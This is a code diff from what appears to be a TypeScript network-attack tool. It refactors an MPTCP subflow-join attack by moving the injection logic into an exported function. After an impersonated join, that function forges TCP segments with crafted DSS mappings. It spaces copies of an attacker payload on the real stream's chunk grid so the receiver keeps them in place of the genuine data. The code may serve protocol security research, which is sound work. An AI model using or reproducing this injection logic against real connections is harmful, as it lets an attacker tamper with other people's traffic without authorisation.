@@ -100,50 +100,72 @@ export class OwnJoin {
       if (!dss || dss.dataAck === undefined) return true;
       // The fourth ACK: its DATA_ACK is the next data sequence number the peer expects.
       this.phase = 'done';
-      const acked = dss.dataAck64 ? dss.dataAck : this.expand(ctx, dss.dataAck);
-      const { base, step, chunk } = this.grid(ctx, acked);
-      // Each copy fills a whole chunk of the real stream, so the receiver keeps it rather than the real one.
-      const payload = chunk > 0 ? Uint8Array.from({ length: chunk }, (_, k) => this.payload[k % this.payload.length]!) : this.payload;
-      const len = payload.length;
-      for (let i = 0; i < COPIES; i++) {
-        const dsn = base + BigInt(i) * step;
-        const ssn = 1 + i * len;
-        const mapping = { dsn, ssn, dataLength: len, ...(this.target.checksums ? { checksum: dssChecksum(dsn, ssn, len, payload) } : {}) };
-        const why = i === 0 ? `${len} bytes mapped at DSN ${dsn}, ${dsn === acked ? 'the DATA_ACK of the fourth ACK' : 'where a chunk of the real stream will start'}` : `the same ${len} bytes ${Number(dsn - base)} bytes further on (DSN ${dsn})`;
-        this.send(ctx, this.isn + 1 + i * len, this.peerIsn + 1, TCP_FLAG.ACK | TCP_FLAG.PSH, [{ kind: 'dss', dataFin: false, dataAck64: false, dsn64: true, reserved: 0, mapping }], why, payload);
-      }
+      sendForgedData(ctx, { own: this.own, port: this.port, peer: this.target.peer, isn: this.isn, peerIsn: this.peerIsn, checksums: this.target.checksums, note: ` (key ${hex64(this.target.ownKey)} impersonated)` }, this.payload, dss.dataAck64 ? dss.dataAck : expandDataAck(ctx, dss.dataAck));
       return true;
     }
     return true;
   }
 
-  /**
-   * Where its copies go: on the grid of the real sender's chunks (the DSN
-   * after the last mapping it saw, plus whole chunks), from the DATA_ACK on,
-   * so a copy waiting out of order is exactly the next data when the stream
-   * reaches it. Without a grid, at the DATA_ACK and every STRIDE bytes.
-   */
-  private grid(ctx: AttackContext, acked: bigint): { base: bigint; step: bigint; chunk: number } {
-    for (const f of ctx.knowledge.flows.values()) {
-      if (f.nextDsn === null || f.mappingLength === 0 || f.dst.family !== this.target.peer.addr.family) continue;
-      if (formatEndpoint(f.dst, f.dstPort) !== formatEndpoint(this.target.peer.addr, this.target.peer.port)) continue;
-      const chunk = BigInt(f.mappingLength);
-      const ahead = acked > f.nextDsn ? (acked - f.nextDsn + chunk - 1n) / chunk : 0n;
-      return { base: f.nextDsn + ahead * chunk, step: chunk * BigInt(Math.max(1, Math.round(STRIDE / f.mappingLength))), chunk: f.mappingLength };
-    }
-    return { base: acked, step: BigInt(STRIDE), chunk: 0 };
-  }
-
-  /** A 32-bit DATA_ACK, completed with the high bits of the DSNs it saw. */
-  private expand(ctx: AttackContext, ack32: bigint): bigint {
-    let high = 0n;
-    for (const f of ctx.knowledge.flows.values()) if (f.nextDsn !== null) high = f.nextDsn & ~0xffffffffn;
-    return high | (ack32 & 0xffffffffn);
-  }
-
-  private send(ctx: AttackContext, seq: number, ack: number, flags: number, options: TcpOption[], why: string, payload?: Uint8Array): void {
+  private send(ctx: AttackContext, seq: number, ack: number, flags: number, options: TcpOption[], why: string): void {
     const t = this.target;
-    const bytes = craftSegment({ src: this.own, dst: t.peer.addr, srcPort: this.port, dstPort: t.peer.port, seq, ack, flags, window: 1024, options, ...(payload ? { payload } : {}) });
+    const bytes = craftSegment({ src: this.own, dst: t.peer.addr, srcPort: this.port, dstPort: t.peer.port, seq, ack, flags, window: 1024, options });
     ctx.inject(bytes, `${why} (key ${hex64(t.ownKey)} impersonated)`, { fromHome: true });
   }
+}
+
+/** A subflow the attacker got joined from its own address. */
+export interface JoinedSubflow {
+  own: IpAddress;
+  port: number;
+  peer: Endpoint;
+  /** Its ISN and the peer's. */
+  isn: number;
+  peerIsn: number;
+  checksums: boolean;
+  /** Appended to each packet's note. */
+  note: string;
+}
+
+/**
+ * After the peer's fourth ACK (`acked`: its DATA_ACK, the next data
+ * sequence number it expects): copies of `payload` mapped on the grid of
+ * the real stream's chunks (see the file comment), so one is kept.
+ */
+export function sendForgedData(ctx: AttackContext, j: JoinedSubflow, payload0: Uint8Array, acked: bigint): void {
+  const { base, step, chunk } = grid(ctx, j.peer, acked);
+  // Each copy fills a whole chunk of the real stream, so the receiver keeps it rather than the real one.
+  const payload = chunk > 0 ? Uint8Array.from({ length: chunk }, (_, k) => payload0[k % payload0.length]!) : payload0;
+  const len = payload.length;
+  for (let i = 0; i < COPIES; i++) {
+    const dsn = base + BigInt(i) * step;
+    const ssn = 1 + i * len;
+    const mapping = { dsn, ssn, dataLength: len, ...(j.checksums ? { checksum: dssChecksum(dsn, ssn, len, payload) } : {}) };
+    const why = i === 0 ? `${len} bytes mapped at DSN ${dsn}, ${dsn === acked ? 'the DATA_ACK of the fourth ACK' : 'where a chunk of the real stream will start'}` : `the same ${len} bytes ${Number(dsn - base)} bytes further on (DSN ${dsn})`;
+    const bytes = craftSegment({ src: j.own, dst: j.peer.addr, srcPort: j.port, dstPort: j.peer.port, seq: j.isn + 1 + i * len, ack: j.peerIsn + 1, flags: TCP_FLAG.ACK | TCP_FLAG.PSH, window: 1024, options: [{ kind: 'dss', dataFin: false, dataAck64: false, dsn64: true, reserved: 0, mapping }], payload });
+    ctx.inject(bytes, `${why}${j.note}`, { fromHome: true });
+  }
+}
+
+/**
+ * Where its copies go: on the grid of the real sender's chunks (the DSN
+ * after the last mapping it saw, plus whole chunks), from the DATA_ACK on,
+ * so a copy waiting out of order is exactly the next data when the stream
+ * reaches it. Without a grid, at the DATA_ACK and every STRIDE bytes.
+ */
+function grid(ctx: AttackContext, peer: Endpoint, acked: bigint): { base: bigint; step: bigint; chunk: number } {
+  for (const f of ctx.knowledge.flows.values()) {
+    if (f.nextDsn === null || f.mappingLength === 0 || f.dst.family !== peer.addr.family) continue;
+    if (formatEndpoint(f.dst, f.dstPort) !== formatEndpoint(peer.addr, peer.port)) continue;
+    const chunk = BigInt(f.mappingLength);
+    const ahead = acked > f.nextDsn ? (acked - f.nextDsn + chunk - 1n) / chunk : 0n;
+    return { base: f.nextDsn + ahead * chunk, step: chunk * BigInt(Math.max(1, Math.round(STRIDE / f.mappingLength))), chunk: f.mappingLength };
+  }
+  return { base: acked, step: BigInt(STRIDE), chunk: 0 };
+}
+
+/** A 32-bit DATA_ACK, completed with the high bits of the DSNs it saw. */
+export function expandDataAck(ctx: AttackContext, ack32: bigint): bigint {
+  let high = 0n;
+  for (const f of ctx.knowledge.flows.values()) if (f.nextDsn !== null) high = f.nextDsn & ~0xffffffffn;
+  return high | (ack32 & 0xffffffffn);
 }
